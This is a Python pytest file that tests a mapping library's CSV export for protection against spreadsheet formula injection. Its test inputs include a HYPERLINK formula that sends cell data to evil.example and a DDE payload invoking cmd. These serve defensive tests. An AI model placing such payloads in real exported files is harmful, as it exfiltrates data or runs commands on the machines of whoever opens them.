from __future__ import annotations

import csv
import io
import logging
import weakref
from collections.abc import Iterator

import pytest

from hypermap.core.semantic import SemanticLayer
from hypermap.formats.semantic.csv_table import to_csv
from hypermap.spreadsheet import as_csv
from hypermap.testing import square
from hypermap.viewer.live.downloads import rows_as_csv


def written(text: str) -> str:
    table = as_csv(["name", "next"], [[text, ""]])
    _, (cell, _) = csv.reader(io.StringIO(table, newline=""))
    return cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"cup")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
        "'=1+1",
        "-1\n=2",
    ],
)
def test_what_a_spreadsheet_would_compute_gets_an_apostrophe(text: str) -> None:
    assert written(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    ["cup", "", "-", "-5", "+1.5e-3", "a=b", "it's", "'quoted'", " =1", "１", "a\r=1", "a\n=1"],
)
def test_other_texts_stay_as_they_are(text: str, caplog: pytest.LogCaptureFixture) -> None:
    assert written(text) == text
    assert not caplog.records


def test_a_nul_hides_no_formula() -> None:
    assert as_csv(["\0=1+1"], []) == "'\0=1+1\n"  # whose reader in Python 3.10 refuses a NUL


def test_numbers_below_zero_and_empty_cells_stay() -> None:
    assert as_csv(["a", "b"], [[-1.5, None]]) == "a,b\n-1.5,\n"


def test_it_says_once_how_many_texts_begin_like_a_formula(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING):
        as_csv(["=a"], [["=b"], ["c"]])
    (record,) = caplog.records
    assert record.getMessage().startswith("texts that begin like a formula got an apostrophe")
    assert record.getMessage().endswith(": 2")


class Row(list[str]):
    """A row that a weak reference can refer to."""


def test_rows_are_written_one_by_one() -> None:
    """A fine grid has millions of them, which would take gigabytes together."""
    made: list[weakref.ref[Row]] = []

    def rows() -> Iterator[Row]:
        for _ in range(9):
            row = Row(["cup"])
            made.append(weakref.ref(row))
            yield row
            kept = sum(each() is not None for each in made)
            assert kept <= 2  # this one, and at most the one before

    assert as_csv(["name"], rows()).count("cup") == 9


def test_neither_names_nor_attributes_of_objects_are_formulas() -> None:
    cup = square("=1+1", 0, 0, attributes={"@key": "+2+2"})
    row = {"layer": "=l", "id": 1, "name": "=1+1", "x": -1.0, "y": 0.0, "area": 1.0}
    row |= {"existence": None, "first_seen": None, "last_seen": None, "tags": ["@a", "b"]}
    for text in (to_csv(SemanticLayer("s", "map", [cup])), rows_as_csv([row])):
        cells = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
        assert "'=1+1" in cells
        assert not [cell for cell in cells if cell[:1] in ("=", "@", "+")]
